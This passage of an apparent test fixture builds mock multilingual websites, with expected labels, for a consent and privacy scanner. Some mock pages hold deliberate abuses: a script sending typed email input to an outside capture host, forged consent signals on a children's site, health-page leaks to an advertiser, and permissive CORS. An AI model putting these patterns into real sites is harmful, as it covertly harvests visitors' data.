import { cookieOf, pathOf, reply } from "../../../demo/respond.ts";
import { type Case, CLEAN, WALL } from "../case.ts";
import { GA, GOOD_HEADERS, META } from "../page.ts";
import { sink, site, takes } from "../routes.ts";

/** Sites of shapes of their own: no two share their markup, their banner or their language. */

const HTML = "text/html; charset=utf-8";

/** A picture of a button with words on it that only its `alt` says. */
const picture = (colour: string) =>
  `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" width="170" height="44"><rect width="170" height="44" rx="8" fill="${colour}"/><path d="M30 22h110" stroke="#fff" stroke-width="6"/></svg>`)}`;

const bits = (value: number | bigint, length: number) => BigInt(value).toString(2).padStart(length, "0");
const letters = (text: string) => [...text].map((one) => bits(one.charCodeAt(0) - 65, 6)).join("");

/** A consent string of TCF 2.2 in which every purpose and the first ten vendors have consent. */
const tcString = (() => {
  const core = [
    bits(2, 6),
    bits(17_950_000_000, 36),
    bits(17_950_000_000, 36),
    bits(300, 12),
    bits(1, 12),
    bits(1, 6),
    letters("CA"),
    bits(90, 12),
    bits(4, 6),
    "1",
    "0",
    "0".repeat(12),
    "1".repeat(11).padEnd(24, "0"),
    "0".repeat(24),
    "0",
    letters("ES"),
    bits(10, 16),
    "0",
    "1".repeat(10),
    bits(0, 16),
    "0",
    "0".repeat(12),
  ].join("");
  const padded = core.padEnd(Math.ceil(core.length / 8) * 8, "0");
  return Buffer.from((padded.match(/.{8}/g) ?? []).map((byte) => Number.parseInt(byte, 2))).toString(
    "base64url",
  );
})();

export const shapes: readonly Case[] = [
  {
    // Turkish: too many requests, said with status 200.
    host: "turnike.example",
    truth: { open: WALL },
    site: (_, response) =>
      reply(response, {
        type: HTML,
        body: `<html lang="tr"><head><title>Çok fazla istek</title></head><body><center><h2>Çok fazla istek gönderdiniz</h2><p>Lütfen birkaç dakika sonra tekrar deneyin.</p><hr>nginx</center></body></html>`,
      }),
  },
  {
    // Hungarian: closed for maintenance, with a countdown.
    host: "karbantartas.example",
    truth: { open: WALL },
    site: (_, response) =>
      reply(response, {
        type: HTML,
        headers: GOOD_HEADERS,
        body: `<!doctype html><html lang="hu"><meta charset="utf-8"><title>Karbantartás</title><body style="display:grid;place-items:center;height:100vh;font:20px serif"><section><h1>Hamarosan visszatérünk!</h1><p>Webáruházunk karbantartás miatt jelenleg nem elérhető. Köszönjük a türelmét.</p><output id="o"></output></section><script>var n=3600;setInterval(function(){document.getElementById("o").textContent=--n+" mp"},1000)</script></body></html>`,
      }),
  },
  {
    // Ukrainian: the name is for sale.
    host: "prodaje-domen.example",
    truth: { open: WALL },
    site: (_, response) =>
      reply(response, {
        type: HTML,
        body: `<!doctype html><html lang="uk"><head><meta charset="utf-8"><title>prodaje-domen.example — домен продається</title></head><body><h1>Цей домен продається</h1><p>Ви можете придбати доменне ім’я prodaje-domen.example. Зробіть пропозицію власнику.</p><form action="/offer" method="post"><input name="bid" placeholder="Ваша ціна"><button>Надіслати</button></form><ul><li><a href="/s1">Страхування авто</a></li><li><a href="/s2">Кредит онлайн</a></li><li><a href="/s3">Авіаквитки</a></li></ul></body></html>`,
      }),
  },
  {
    // Romanian: an escape room that is called "access denied", and follows nobody.
    host: "evadare.example",
    truth: { fine: `${CLEAN} policy.link policy.sections policy.freshness mixed-content form.insecure` },
    site: site({
      "/": `<!doctype html><html lang="ro"><head><meta charset="utf-8"><title>Acces interzis: camere de evadare în Cluj</title><style>body{font:17px Georgia}table{border-spacing:24px}</style></head><body><table><tr><td><h1>Acces interzis</h1><p>Verificăm dacă ești om… sau doar un detectiv foarte bun. Cinci camere de evadare, fiecare cu povestea ei, pentru echipe de doi până la opt jucători.</p></td><td><p>Camera „Mentenanță” se redeschide în toamnă. Pentru celelalte, rezervă cu două zile înainte.</p></td></tr></table><p><a href="/camere">Camerele noastre</a> · <a href="/tarife">Tarife</a> · <a href="/contact">Contact</a> · <a href="/confidentialitate">Politica de confidențialitate</a></p></body></html>`,
      "/camere": `<!doctype html><html lang="ro"><title>Camere</title><h1>Camerele noastre</h1><p>Bancherul, Submarinul, Mănăstirea.</p><a href="/">Acasă</a></html>`,
      "/tarife": `<!doctype html><html lang="ro"><title>Tarife</title><h1>Tarife</h1><p>120 lei de persoană.</p></html>`,
      "/contact": `<!doctype html><html lang="ro"><title>Contact</title><h1>Contact</h1><form method="post" action="/trimite"><label>E-mail <input type="email" name="email"></label><label>Mesaj <textarea name="mesaj"></textarea></label><button>Trimite</button></form></html>`,
      "/confidentialitate": `<!doctype html><html lang="ro"><meta charset="utf-8"><title>Politica de confidențialitate</title><h1>Politica de confidențialitate</h1><p>Actualizată la 12 august 2026</p><h3>Cine suntem</h3><p>Operatorul de date este Evadare SRL, str. Horea 4, Cluj-Napoca.</p><h3>De ce folosim datele</h3><p>Scopul prelucrării este rezervarea; temeiul juridic este executarea contractului.</p><h3>Cui le dăm</h3><p>Destinatarii datelor sunt procesatorul de plăți și contabilul. Nu transferăm date către țări terțe.</p><h3>Cât le păstrăm</h3><p>Perioada de păstrare este de cinci ani.</p><h3>Drepturile dumneavoastră</h3><p>Aveți dreptul de acces, rectificare și ștergere și dreptul de a depune o plângere la autoritatea de supraveghere.</p><p>Contact: salut@evadare.example</p></html>`,
    }),
  },
  {
    // Ukrainian: tags wait for the first scroll or touch, on a page that is drawn by a script.
    host: "knyharnia.example",
    truth: {
      defect: "consent.trackers-before consent.cookies-before consent.banner-present",
      fine: "policy.link",
    },
    site: site({
      "/": `<!doctype html><html lang="uk"><head><meta charset="utf-8"><title>Книгарня «Сова»</title></head><body><div id="app"></div><script>
fetch("/data.json").then(function(r){return r.json()}).then(function(d){
var a=document.getElementById("app");a.innerHTML="<header><b>Книгарня «Сова»</b></header>"+d.books.map(function(b){return "<article style='min-height:420px'><h2>"+b+"</h2><p>Тверда обкладинка, доставка поштою по всій країні за два-три дні.</p></article>"}).join("")+"<a href='/pryvatnist'>Політика конфіденційності</a>"});
var done=false;function tag(){if(done)return;done=true;${GA}}
["scroll","wheel","touchstart"].forEach(function(e){addEventListener(e,tag,{passive:true,once:true})})</script></body></html>`,
      "/data.json": JSON.stringify({ books: ["Тигролови", "Місто", "Захар Беркут", "Лісова пісня"] }),
      "/pryvatnist": `<!doctype html><html lang="uk"><meta charset="utf-8"><title>Політика конфіденційності</title><h1>Політика конфіденційності</h1><p>Володілець персональних даних — ФОП Сова. Ми обробляємо персональні дані для доставки замовлень. Контакт: sova@knyharnia.example</p></html>`,
    }),
  },
  {
    // Arabic, right to left: the banner is in a closed shadow root, its buttons are pictures.
    host: "makhbaz.example",
    truth: {
      fine: "consent.banner-present consent.reject-offered-first-layer consent.trackers-before consent.cookies-before consent.reject-works consent.withdraw-link consent.no-wall policy.link",
    },
    site: site({
      "/": `<!doctype html><html lang="ar" dir="rtl"><head><meta charset="utf-8"><title>مخبز الحي</title></head><body><h1>مخبز الحي</h1><p>نخبز كل صباح خبزًا طازجًا من قمح محلي ونوصله إلى بيوتكم. المخبز مفتوح من السبت إلى الخميس.</p><nav><a href="/khubz">الخبز</a> <a href="/hulw">الحلويات</a> <a href="/ittisal">اتصل بنا</a></nav><footer><a href="/khususiya">سياسة الخصوصية</a> <a href="#" onclick="ask();return false">إعدادات ملفات تعريف الارتباط</a></footer>
<script>function run(){${META}}
function ask(){var h=document.createElement("qism-iznin");h.style.cssText="position:fixed;inset:auto 0 0 0;z-index:99";document.body.append(h);
var r=h.attachShadow({mode:"closed"});r.innerHTML='<div style="background:#fffbe9;padding:18px;border-top:2px solid #432"><p>نستخدم ملفات تعريف الارتباط لقياس الزيارات والإعلانات. هل توافق؟</p><a href="#" role="button" id="la"><img alt="رفض الكل" src="${picture("#334")}"></a> <a href="#" role="button" id="na"><img alt="قبول الكل" src="${picture("#334")}"></a></div>';
function end(v){document.cookie="tafdilat="+v+";path=/;max-age=15552000;secure;samesite=lax";h.remove();if(v==="1")run();else if(v==="0")document.cookie="_fbp=;path=/;max-age=0"}
r.getElementById("la").onclick=function(e){e.preventDefault();end("0")};r.getElementById("na").onclick=function(e){e.preventDefault();end("1")}}
var v=(document.cookie.match(/tafdilat=(.)/)||[])[1];if(v==="1")run();else if(!v)ask()</script></body></html>`,
      "/khubz": `<!doctype html><html lang="ar" dir="rtl"><meta charset="utf-8"><title>الخبز</title><h1>الخبز</h1><p>خبز الشعير وخبز القمح الكامل.</p></html>`,
      "/ittisal": `<!doctype html><html lang="ar" dir="rtl"><meta charset="utf-8"><title>اتصل بنا</title><h1>اتصل بنا</h1><p>هاتف المخبز ٠١٢٣</p></html>`,
      "/khususiya": `<!doctype html><html lang="ar" dir="rtl"><meta charset="utf-8"><title>سياسة الخصوصية</title><h1>سياسة الخصوصية</h1><p>المتحكم في البيانات هو مخبز الحي. نعالج البيانات الشخصية لتوصيل الطلبات ونحتفظ بها سنة واحدة. للتواصل: salam@makhbaz.example</p></html>`,
    }),
  },
  {
    // Indonesian: a banner in a frame of a frame, whose "no" changes nothing.
    host: "toko-rempah.example",
    truth: {
      defect: "consent.reject-works",
      fine: "consent.banner-present consent.reject-offered-first-layer consent.trackers-before consent.cookies-before",
    },
    site: site(
      {
        "/": `<!doctype html><html lang="id"><head><meta charset="utf-8"><title>Toko Rempah Nusantara</title></head><body><h1>Rempah Nusantara</h1><p>Pala, cengkeh, kayu manis dan lada langsung dari petani di Maluku. Pengiriman ke seluruh Indonesia setiap hari kerja.</p><a href="/pala">Pala</a> <a href="/lada">Lada</a><script>
function muat(){${GA}}
var p=/persetujuan=(\\w+)/.exec(document.cookie);
if(p)muat();else{var f=document.createElement("iframe");f.src="/izin/luar.html";f.title="Persetujuan";f.style.cssText="position:fixed;bottom:0;right:0;width:520px;height:240px;border:0;background:#fff";document.body.append(f);
addEventListener("message",function(e){if(e.data==="tolak"||e.data==="terima"){document.cookie="persetujuan="+e.data+";path=/;max-age=7776000;secure;samesite=lax";f.remove();muat()}})}</script></body></html>`,
        "/izin/luar.html": `<!doctype html><html lang="id"><body style="margin:0"><iframe src="/izin/dalam.html" style="width:100%;height:230px;border:0"></iframe></body></html>`,
        "/izin/dalam.html": `<!doctype html><html lang="id"><meta charset="utf-8"><body><h3>Kami menghargai privasi Anda</h3><p>Kami memakai cookie untuk analisis dan iklan. Setujukah Anda?</p><button onclick="top.postMessage('tolak','*')">Tolak semua</button> <button onclick="top.postMessage('terima','*')">Terima semua</button></body></html>`,
        "/pala": `<!doctype html><html lang="id"><title>Pala</title><h1>Pala Banda</h1><p>Rp 45.000</p></html>`,
        "/lada": `<!doctype html><html lang="id"><title>Lada</title><h1>Lada Bangka</h1><p>Rp 38.000</p></html>`,
      },
      { ...GOOD_HEADERS, "x-frame-options": "SAMEORIGIN" },
    ),
  },
  {
    // Vietnamese: the policy stands in closed accordions.
    host: "tiem-sach.example",
    truth: { fine: `${CLEAN} policy.link policy.sections policy.freshness` },
    site: site({
      "/": `<!doctype html><html lang="vi"><head><meta charset="utf-8"><title>Tiệm sách Mây</title></head><body><main><h1>Tiệm sách Mây</h1><p>Sách cũ, sách mới và trà nóng ở góc phố Hàng Bè. Tiệm mở cửa từ thứ ba đến chủ nhật, từ chín giờ sáng đến tám giờ tối.</p></main><ul><li><a href="/sach">Sách mới về</a></li><li><a href="/lien-he">Liên hệ</a></li><li><a href="/rieng-tu">Chính sách bảo mật</a></li></ul></body></html>`,
      "/sach": `<!doctype html><html lang="vi"><meta charset="utf-8"><title>Sách mới</title><h1>Sách mới về</h1><p>Số đỏ, Chí Phèo.</p></html>`,
      "/lien-he": `<!doctype html><html lang="vi"><meta charset="utf-8"><title>Liên hệ</title><h1>Liên hệ</h1><p>12 Hàng Bè, Hà Nội</p></html>`,
      "/rieng-tu": `<!doctype html><html lang="vi"><head><meta charset="utf-8"><title>Chính sách bảo mật</title></head><body><h1>Chính sách bảo mật</h1><p>Cập nhật lần cuối: ngày 3 tháng 9 năm 2026</p>${[
        ["Chúng tôi là ai", "Bên kiểm soát dữ liệu là Công ty Mây, 12 Hàng Bè, Hà Nội."],
        [
          "Mục đích",
          "Mục đích xử lý dữ liệu cá nhân là giao sách bạn đặt mua. Cơ sở pháp lý là hợp đồng với bạn.",
        ],
        ["Ai nhận dữ liệu", "Bên nhận dữ liệu là đơn vị vận chuyển và ngân hàng."],
        ["Chuyển ra nước ngoài", "Dữ liệu không được chuyển ra nước ngoài."],
        ["Thời gian lưu trữ", "Thời hạn lưu trữ là hai năm."],
        [
          "Quyền của bạn",
          "Bạn có quyền truy cập, chỉnh sửa, xóa dữ liệu và quyền khiếu nại với cơ quan giám sát.",
        ],
        ["Liên hệ", "Email: may@tiem-sach.example"],
      ]
        .map(([head, text]) => `<details><summary>${head}</summary><p>${text}</p></details>`)
        .join("")}</body></html>`,
    }),
  },
  {
    // Thai: a number of its own for each visitor, for two years, told to somebody unknown.
    host: "ran-dokmai.example",
    truth: {
      open: "consent.cookies-before consent.trackers-before consent.storage-before",
    },
    also: takes("ingest.khomun-phainok.example"),
    site: site({
      "/": (request, response) => {
        const id = cookieOf(request, "rdm_no") ?? "8f3c61d09be24a57a1c0e5b7d2946f38";
        reply(response, {
          type: HTML,
          headers: GOOD_HEADERS,
          cookies: [`rdm_no=${id}; Path=/; Max-Age=63072000; Secure; SameSite=Lax`],
          body: `<!doctype html><html lang="th"><head><meta charset="utf-8"><title>ร้านดอกไม้</title></head><body><h1>ร้านดอกไม้ริมคลอง</h1><p>ช่อดอกไม้สดทุกเช้า จัดส่งทั่วกรุงเทพฯ ภายในวันเดียว เปิดทุกวันตั้งแต่หกโมงเช้าถึงสองทุ่ม</p><a href="/chor">ช่อดอกไม้</a> <a href="/tidtor">ติดต่อ</a><script>
var n="${id}";new Image().src="https://ingest.khomun-phainok.example/e?u="+n+"&p="+encodeURIComponent(location.pathname);
var q=indexedDB.open("rdm",1);q.onupgradeneeded=function(){q.result.createObjectStore("kv")};q.onsuccess=function(){q.result.transaction("kv","readwrite").objectStore("kv").put(n,"no")};
localStorage.setItem("rdm_no_copy",n)</script></body></html>`,
        });
      },
      "/chor": `<!doctype html><html lang="th"><meta charset="utf-8"><title>ช่อ</title><h1>ช่อกุหลาบ</h1></html>`,
    }),
  },
  {
    // Norwegian: after "no" an identifier is stored and a beacon goes out.
    host: "fjellbutikk.example",
    truth: {
      defect: "consent.reject-works tracking.streams",
      fine: "consent.banner-present consent.reject-offered-first-layer consent.trackers-before consent.storage-before consent.cookies-before",
    },
    site: site({
      "/": `<!doctype html><html lang="nb"><head><meta charset="utf-8"><title>Fjellbutikken</title></head><body><h1>Fjellbutikken</h1><p>Tursko, telt og ullundertøy for fire årstider. Vi holder til på Lillehammer og sender over hele landet.</p><a href="/telt">Telt</a> <a href="/sko">Sko</a>
<dialog id="d" style="bottom:0;top:auto;border:1px solid"><h2>Informasjonskapsler</h2><p>Vi og samarbeidspartnerne våre bruker informasjonskapsler til statistikk og markedsføring.</p><form method="dialog"><button value="nei">Avvis alle</button> <button value="ja">Godta alle</button></form></dialog>
<script>function send(){var a=localStorage.getItem("ajs_anonymous_id")||crypto.randomUUID();localStorage.setItem("ajs_anonymous_id",a);navigator.sendBeacon("https://api.segment.io/v1/t",JSON.stringify({anonymousId:a,event:"Page"}))}
var d=document.getElementById("d");if(localStorage.getItem("valg"))send();else{d.show();d.onclose=function(){localStorage.setItem("valg",d.returnValue);send()}}</script></body></html>`,
      "/telt": `<!doctype html><html lang="nb"><title>Telt</title><h1>Tomannstelt</h1></html>`,
      "/sko": `<!doctype html><html lang="nb"><title>Sko</title><h1>Tursko</h1></html>`,
    }),
  },
  {
    // Slovene: beacons to a product analytics tool from the first second.
    host: "vrtnarija.example",
    truth: { defect: "tracking.streams consent.trackers-before consent.banner-present" },
    also: takes("api2.amplitude.com"),
    site: site({
      "/": `<!doctype html><html lang="sl"><head><meta charset="utf-8"><title>Vrtnarija Lipa</title></head><body><h1>Vrtnarija Lipa</h1><p>Sadike, lončnice in nasveti za vrt. Odprto vsak dan od osmih do šestih, ob nedeljah zaprto.</p><a href="/sadike">Sadike</a><script>
addEventListener("pagehide",function(){navigator.sendBeacon("https://api2.amplitude.com/2/httpapi","{}")});
navigator.sendBeacon("https://api2.amplitude.com/2/httpapi",JSON.stringify({api_key:"0123456789abcdef0123456789abcdef",events:[{device_id:"5b1f2c3d-1111-4222-8333-944455566677",event_type:"page"}]}))</script></body></html>`,
      "/sadike": `<!doctype html><html lang="sl"><title>Sadike</title><h1>Sadike paradižnika</h1></html>`,
    }),
  },
  {
    // Bulgarian: an analytics vendor behind a path of the site.
    host: "rukodelie.example",
    truth: {
      defect: "tracking.first-party-disguise consent.trackers-before consent.cookies-before",
    },
    site: site({
      "/": `<!doctype html><html lang="bg"><head><meta charset="utf-8"><title>Ръкоделие</title><script async src="/m/s.js"></script></head><body><h1>Ръкоделие от Троян</h1><p>Ръчно тъкани черги и керамика. Всяко парче се прави по поръчка и се изпраща с куриер до три седмици.</p><a href="/chergi">Черги</a></body></html>`,
      "/m/s.js": `(function(){var c=Math.floor(1e9*Math.random())+"."+Math.floor(Date.now()/1e3);document.cookie="_ga=GA1.1."+c+";path=/;max-age=63072000";fetch("/m/g/collect?v=2&tid=G-7QW2ER5TY8&gtm=45je6b10&_p=1234&cid="+c+"&ul=bg&sr=1440x900&en=page_view&dl="+encodeURIComponent(location.href)+"&dt="+encodeURIComponent(document.title),{method:"POST",keepalive:true})})()`,
      "/m/g/collect": sink,
      "/chergi": `<!doctype html><html lang="bg"><title>Черги</title><h1>Черги</h1></html>`,
    }),
  },
  {
    // Croatian: what is typed goes out in base64 within a JSON of a form field.
    host: "knjizara.example",
    truth: { defect: "keystroke.capture" },
    also: takes("hvatac.podaci-hr.example"),
    site: site({
      "/": `<!doctype html><html lang="hr"><head><meta charset="utf-8"><title>Knjižara Sova</title></head><body><h1>Knjižara Sova</h1><p>Romani, slikovnice i stripovi uz kavu na glavnom trgu. Radimo svaki dan osim nedjelje.</p><a href="/romani">Romani</a><aside><h2>Pretplatite se na novosti</h2><form method="post" action="/novosti"><label>E-pošta <input type="email" name="eposta" autocomplete="email"></label><button>Pošalji</button></form></aside><script>
var t;document.querySelector("input").addEventListener("input",function(e){clearTimeout(t);t=setTimeout(function(){var b=new URLSearchParams({d:btoa(JSON.stringify({polje:e.target.name,v:[{x:e.target.value}]}))});fetch("https://hvatac.podaci-hr.example/p",{method:"POST",mode:"no-cors",body:b})},250)})</script></body></html>`,
      "/romani": `<!doctype html><html lang="hr"><title>Romani</title><h1>Romani</h1></html>`,
    }),
  },
  {
    // Lithuanian: the site's own search answers while one types, the session is its own.
    host: "paveldas.example",
    truth: {
      fine: `${CLEAN} keystroke.capture cookie.flags form.insecure fingerprint.device tracking.first-party-disguise`,
      nothing: "share.undeclared-third-party tracking.url-leak",
    },
    site: site({
      "/": (_, response) =>
        reply(response, {
          type: HTML,
          headers: GOOD_HEADERS,
          cookies: ["PHPSESSID=q7r5c0a3k2m1n9b8v4x6z1l0p2; Path=/; Secure; HttpOnly; SameSite=Lax"],
          body: `<!doctype html><html lang="lt"><head><meta charset="utf-8"><title>Paveldo muziejus</title></head><body><h1>Paveldo muziejus</h1><p>Nuolatinė ekspozicija apie Žemaitijos kaimą ir amatus. Muziejus dirba antradieniais–sekmadieniais, vaikams nemokamai.</p><form action="/paieska"><label>Paieška <input type="search" name="q"></label></form><ol id="r"></ol><a href="/ekspozicija">Ekspozicija</a> <a href="/kontaktai">Kontaktai</a><script>
document.querySelector("input").oninput=function(e){fetch("/siulymai.json?q="+encodeURIComponent(e.target.value)).then(function(r){return r.json()}).then(function(l){document.getElementById("r").innerHTML=l.map(function(x){return "<li>"+x}).join("")})}</script></body></html>`,
        }),
      "/siulymai.json": `["Ekspozicija","Edukacija"]`,
      "/paieska": `<!doctype html><html lang="lt"><title>Paieška</title><h1>Paieška</h1></html>`,
      "/ekspozicija": `<!doctype html><html lang="lt"><title>Ekspozicija</title><h1>Ekspozicija</h1></html>`,
      "/kontaktai": `<!doctype html><html lang="lt"><title>Kontaktai</title><h1>Kontaktai</h1></html>`,
    }),
  },
  {
    // Estonian: a notice that one may only agree to.
    host: "ilutulestik.example",
    truth: {
      defect: "consent.banner-present consent.reject-offered-first-layer",
      fine: "consent.trackers-before consent.cookies-before",
    },
    site: site({
      "/": `<!doctype html><html lang="et"><head><meta charset="utf-8"><title>Ilutulestik OÜ</title></head><body><div class="teade" id="t" style="background:#222;color:#fff;padding:12px">See veebileht kasutab küpsiseid. Lehe kasutamist jätkates nõustute küpsistega. <span tabindex="0" role="button" style="background:#fff;color:#222;padding:6px 20px" onclick="document.cookie='kypsis=ok;path=/;max-age=31536000;secure;samesite=lax';document.getElementById('t').remove();mine()">Sain aru</span></div><h1>Ilutulestik sünnipäevadeks</h1><p>Korraldame ilutulestikke üle Eesti juba kaksteist aastat. Küsige pakkumist, vastame ühe tööpäevaga.</p><a href="/hinnad">Hinnad</a><script>function mine(){${GA}}if(/kypsis=ok/.test(document.cookie)){document.getElementById("t").remove();mine()}</script></body></html>`,
      "/hinnad": `<!doctype html><html lang="et"><title>Hinnad</title><h1>Hinnad</h1></html>`,
    }),
  },
  {
    // Portuguese of Brazil: ticked boxes on the first layer, and a "no" that hides.
    host: "cafe-norte.example",
    territories: ["BR"],
    truth: {
      defect: "consent.no-preticked consent.equal-choice",
      fine: "consent.banner-present consent.trackers-before consent.reject-offered-first-layer consent.no-wall",
    },
    site: site({
      "/": `<!doctype html><html lang="pt-BR"><head><meta charset="utf-8"><title>Café do Norte</title></head><body><h1>Café do Norte</h1><p>Grãos torrados toda semana em Belém e enviados para todo o Brasil. Assinatura mensal sem fidelidade.</p><a href="/graos">Grãos</a>
<section id="lgpd" role="dialog" aria-label="Privacidade" style="position:fixed;bottom:24px;left:24px;width:420px;background:#fff;box-shadow:0 0 20px #0005;padding:20px"><p>Usamos cookies para melhorar sua experiência, medir audiência e mostrar anúncios.</p><label><input type="checkbox" checked disabled> Necessários</label><br><label><input type="checkbox" checked name="estat"> Estatísticas</label><br><label><input type="checkbox" checked name="anuncio"> Publicidade</label><p><button style="background:#0a7d33;color:#fff;font:bold 20px sans-serif;padding:14px 60px;border:0" onclick="q(1)">Aceitar todos</button></p><a href="#" style="color:#ddd;font-size:9px;text-decoration:none" onclick="q(0);return false">Recusar</a></section>
<script>function q(v){localStorage.setItem("lgpd",v);document.getElementById("lgpd").remove();if(v)m()}function m(){${META}}var s=localStorage.getItem("lgpd");if(s!==null){document.getElementById("lgpd").remove();if(s==="1")m()}</script></body></html>`,
      "/graos": `<!doctype html><html lang="pt-BR"><title>Grãos</title><h1>Grãos</h1></html>`,
    }),
  },
  {
    // French of Canada: addresses that tell of an illness go to an advertiser.
    host: "pharmacie-erable.example",
    territories: ["CA"],
    truth: { defect: "tracking.url-leak pixel.present consent.trackers-before" },
    site: site(
      Object.fromEntries(
        [
          ["/", "Pharmacie de l’Érable"],
          ["/sante/depression", "Dépression"],
          ["/sante/diabete", "Diabète"],
          ["/sante/vih-sida", "VIH et sida"],
        ].map(([path, title]) => [
          path as string,
          `<!doctype html><html lang="fr-CA"><head><meta charset="utf-8"><title>${title}</title><script>${META}</script></head><body><h1>${title}</h1><p>Conseils de nos pharmaciens, renouvellement d’ordonnances et livraison à Québec le jour même. Posez vos questions en toute confiance.</p><ul><li><a href="/sante/depression">Dépression</a><li><a href="/sante/diabete">Diabète</a><li><a href="/sante/vih-sida">VIH et sida</a></ul></body></html>`,
        ]),
      ),
    ),
  },
  {
    // German of Austria: everything a header can do, some of it in the page.
    host: "zuckerbaecker.example",
    truth: {
      fine: "hdr.csp hdr.frame hdr.hsts hdr.hsts-preload hdr.isolation hdr.nosniff hdr.referrer hdr.permissions hdr.cors mixed-content exposed.version security-txt robots tls.https tls.certificate",
      nothing: "sri js.vulnerable",
    },
    site: (request, response) => {
      const path = pathOf(request);
      const nonce = Math.random().toString(36).slice(2);
      const headers = {
        "strict-transport-security": "max-age=63072000; includeSubDomains; preload",
        "content-security-policy": `default-src 'self'; script-src 'nonce-${nonce}' 'strict-dynamic'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'; form-action 'self'; upgrade-insecure-requests`,
        "x-content-type-options": "nosniff",
        "permissions-policy": "camera=(), microphone=(), geolocation=(), browsing-topics=()",
        "cross-origin-opener-policy": "same-origin",
        "cross-origin-embedder-policy": "require-corp",
        "cross-origin-resource-policy": "same-origin",
        server: "nginx",
      };
      if (path === "/robots.txt")
        return reply(response, {
          type: "text/plain",
          body: "User-agent: *\nDisallow: /suche\nSitemap: https://zuckerbaecker.example/sitemap.xml\n",
          headers,
        });
      if (path === "/.well-known/security.txt")
        return reply(response, {
          type: "text/plain; charset=utf-8",
          body: "Contact: mailto:sicherheit@zuckerbaecker.example\nExpires: 2027-06-30T00:00:00.000Z\nPreferred-Languages: de, en\n",
          headers,
        });
      if (path !== "/" && path !== "/torten") return reply(response, { status: 404, body: "", headers });
      return reply(response, {
        type: HTML,
        headers,
        body: `<!doctype html><html lang="de-AT"><head><meta charset="utf-8"><meta name="referrer" content="no-referrer"><title>Zuckerbäcker am Naschmarkt</title></head><body><h1>Zuckerbäcker am Naschmarkt</h1><p>Punschkrapfen, Sachertorte und Kardinalschnitten, jeden Tag ab sieben Uhr früh. Bestellungen für Feste bitte drei Tage vorher.</p><img alt="Torte" src="http://zuckerbaecker.example/torte.png"><a href="/torten">Torten</a><script nonce="${nonce}">document.title+=" · Wien"</script></body></html>`,
      });
    },
    plain: (request, response) =>
      reply(response, {
        status: 301,
        headers: { location: `https://zuckerbaecker.example${request.url}` },
        body: "",
      }),
  },
  {
    // Catalan: games for children, an advertiser, and a signal of consent that nobody gave.
    host: "el-pati.example",
    truth: {
      defect:
        "child.trackers consent.signals consent.trackers-before consent.third-party-cookies-before consent.banner-present",
    },
    site: site({
      "/": `<!doctype html><html lang="ca"><head><meta charset="utf-8"><title>El Pati: jocs per a nens i nenes de 4 a 8 anys</title><meta name="description" content="Jocs educatius gratuïts per a infants"><script>
window.__tcfapi=function(c,v,cb){var d={tcString:"${tcString}",tcfPolicyVersion:4,gdprApplies:true,eventStatus:"tcloaded",cmpStatus:"loaded",isServiceSpecific:true,purpose:{consents:{1:true,2:true,3:true,4:true,7:true},legitimateInterests:{}},vendor:{consents:{1:true,2:true},legitimateInterests:{}}};if(c==="ping")cb({gdprApplies:true,cmpLoaded:true,cmpStatus:"loaded",displayStatus:"hidden",apiVersion:"2.2"},true);else cb(Object.assign({listenerId:1},d),true)};
new Image().src="https://securepubads.g.doubleclick.net/gampad/ads?iu=/123/el-pati&gdpr=1&gdpr_consent=${tcString}"</script></head><body style="background:#fe9"><h1>El Pati</h1><p>Juga amb en Pau i la Mariona: colors, lletres, números i cançons. Jocs per a infants d’educació infantil i primer cicle de primària.</p><a href="/colors">Joc dels colors</a> <a href="/cancons">Cançons infantils</a></body></html>`,
      "/colors": `<!doctype html><html lang="ca"><title>Colors</title><h1>Joc dels colors</h1></html>`,
      "/cancons": `<!doctype html><html lang="ca"><title>Cançons</title><h1>Cançons infantils</h1></html>`,
    }),
  },
  {
    // Chinese in traditional characters: an old library in a bundle, a server that lets anybody read.
    host: "chahang.example",
    truth: {
      defect: "js.vulnerable hdr.cors robots hdr.csp exposed.version hdr.hsts hdr.frame hdr.nosniff",
      fine: `${CLEAN} security-txt gpc.support-file policy.link`,
    },
    territories: ["US"],
    site: (request, response) => {
      const headers = {
        "access-control-allow-origin": request.headers.origin ?? "https://chahang.example",
        "access-control-allow-credentials": "true",
        server: "Apache/2.4.29 (Ubuntu)",
        "x-powered-by": "PHP/7.1.33",
      };
      site(
        {
          "/": `<!doctype html><html lang="zh-Hant"><head><meta charset="utf-8"><title>老茶行</title><script src="/assets/vendor.3f2a91.js"></script></head><body><h1>老茶行</h1><p>凍頂烏龍、東方美人與阿里山高山茶，每季直送。門市週二至週日營業，歡迎試飲。</p><a href="/cha">茶葉</a> <a href="/yinsi">隱私權政策</a></body></html>`,
          "/assets/vendor.3f2a91.js": `/*! jQuery v1.8.3 jquery.com | jquery.org/license */\n(function(w){var j=function(s){return new j.fn.init(s)};j.fn=j.prototype={constructor:j,init:function(){return this},jquery:"1.8.3",ready:function(f){f();return this}};j.fn.init.prototype=j.fn;w.jQuery=w.$=j})(window);`,
          "/cha": `<!doctype html><html lang="zh-Hant"><meta charset="utf-8"><title>茶葉</title><h1>茶葉</h1></html>`,
          "/yinsi": `<!doctype html><html lang="zh-Hant"><meta charset="utf-8"><title>隱私權政策</title><h1>隱私權政策</h1><p>老茶行有限公司為個人資料之蒐集者。蒐集目的為寄送您訂購之商品。聯絡我們：cha@chahang.example</p></html>`,
          "/robots.txt":
            "User-agent: *\nDisallow: /admin-login/\nDisallow: /backup/db/\nDisallow: /internal/orders-export/\n",
          "/.well-known/security.txt":
            "Contact: https://chahang.example/security\nExpires: 2027-03-01T00:00:00Z\n",
          "/.well-known/gpc.json": `{"gpc": true, "lastUpdate": "2026-05-01"}`,
        },
        headers,
      )(request, response);
    },
  },
  {
    // Hungarian: "we send nothing to third countries", while it does.
    host: "csomagkuldo.example",
    truth: {
      defect: "policy.discloses-transfers consent.trackers-before",
      fine: "policy.link policy.freshness policy.discloses-recipients",
    },
    site: site({
      "/": `<!doctype html><html lang="hu"><head><meta charset="utf-8"><title>Csomagküldő</title><script>${GA}</script></head><body><h1>Csomagküldő szolgálat</h1><p>Csomagját másnap délig kézbesítjük az ország egész területén. Ügyfélszolgálatunk hétköznap nyolctól hatig elérhető.</p><a href="/arak">Árak</a> <a href="/adatkezeles">Adatkezelési tájékoztató</a></body></html>`,
      "/arak": `<!doctype html><html lang="hu"><title>Árak</title><h1>Árak</h1></html>`,
